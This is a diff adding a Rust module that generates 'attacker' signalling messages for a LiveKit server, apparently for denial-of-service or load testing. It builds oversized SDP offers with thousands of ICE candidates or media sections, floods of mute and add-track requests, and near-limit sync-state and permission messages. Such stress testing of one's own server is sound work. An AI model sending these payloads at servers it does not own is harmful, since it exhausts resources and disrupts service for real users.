@@ -1,0 +1,98 @@
+//! The messages of a participant that attacks.
+
+use std::fmt::Write as _;
+
+use livekit_protocol::signal_request::Message as Request;
+use livekit_protocol::{
+    AddTrackRequest, MuteTrackRequest, SessionDescription, SubscriptionPermission, SyncState, TrackPermission,
+    TrackSource, TrackType, UpdateSubscription,
+};
+
+use super::Attack;
+
+/// The largest messages stay below what a websocket of the server takes.
+const LARGE: usize = 1_800_000;
+/// The candidates of an offer.
+const CANDIDATES: usize = 8_000;
+/// The media sections of an offer.
+const SECTIONS: usize = 1_000;
+
+/// Returns the messages that an attacker sends before it attacks.
+pub fn preparation(attack: Attack) -> Option<Request> {
+    (attack == Attack::Mutes).then(|| Request::AddTrack(track("microphone")))
+}
+
+/// Returns the message of this number. `track` is the sid of the track that was announced first.
+pub fn message(attack: Attack, number: u64, track_sid: &str) -> Request {
+    match attack {
+        Attack::CandidateOffers => offer(number, &candidates()),
+        Attack::SectionOffers => offer(number, &sections()),
+        Attack::SmallOffers => offer(number, &"a=ssrc:1 cname:x\r\n".repeat(60)),
+        Attack::Mutes => Request::Mute(MuteTrackRequest { sid: track_sid.to_owned(), muted: number.is_multiple_of(2) }),
+        Attack::Tracks => Request::AddTrack(track(&format!("track-{number}"))),
+        Attack::SyncStates => Request::SyncState(sync_state()),
+        Attack::Unread => Request::AddTrack(AddTrackRequest { name: "x".repeat(60_000), ..track("refused") }),
+        _ => Request::SubscriptionPermission(permissions()),
+    }
+}
+
+fn track(cid: &str) -> AddTrackRequest {
+    AddTrackRequest {
+        cid: cid.to_owned(),
+        name: cid.to_owned(),
+        r#type: TrackType::Audio.into(),
+        source: TrackSource::Microphone.into(),
+        ..AddTrackRequest::default()
+    }
+}
+
+/// Returns an offer of a client with a data channel, and more lines.
+fn offer(number: u64, more: &str) -> Request {
+    let sdp = format!(
+        "v=0\r\no=- {number} {number} IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n\
+         m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=ice-ufrag:abcd\r\n\
+         a=ice-pwd:0123456789012345678901\r\na=ice-options:trickle\r\na=fingerprint:sha-256 {}\r\na=setup:actpass\r\n\
+         a=mid:0\r\na=sctp-port:5000\r\na=max-message-size:262144\r\n{more}",
+        ["00"; 32].join(":")
+    );
+    let id = u32::try_from(number).unwrap_or(u32::MAX);
+    Request::Offer(SessionDescription { r#type: "offer".to_owned(), sdp, id, ..SessionDescription::default() })
+}
+
+fn candidates() -> String {
+    let mut text = String::new();
+    for number in 0..CANDIDATES {
+        let (address, port) = (number / 250 % 250, 1024 + number % 60_000);
+        // Writing to a string cannot fail.
+        let _ = write!(
+            text,
+            "a=candidate:{number} 1 udp 2122260223 10.{address}.0.{} {port} typ host\r\n",
+            number % 250 + 1
+        );
+    }
+    text
+}
+
+fn sections() -> String {
+    let section = |number: usize| {
+        format!(
+            "m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:{number}\r\na=sendonly\r\na=rtcp-mux\r\n\
+             a=rtpmap:111 opus/48000/2\r\na=ssrc:{number} cname:x\r\n"
+        )
+    };
+    (1..SECTIONS).map(section).collect()
+}
+
+fn permissions() -> SubscriptionPermission {
+    let entry = |number: usize| TrackPermission {
+        participant_identity: format!("participant-{number}-{}", "x".repeat(60)),
+        ..TrackPermission::default()
+    };
+    SubscriptionPermission { all_participants: false, track_permissions: (0..LARGE / 80).map(entry).collect() }
+}
+
+fn sync_state() -> SyncState {
+    let sids = (0..LARGE / 20).map(|number| format!("TR_{number:014}")).collect();
+    let subscription = UpdateSubscription { track_sids: sids, subscribe: true, participant_tracks: Vec::new() };
+    SyncState { subscription: Some(subscription), ..SyncState::default() }
+}
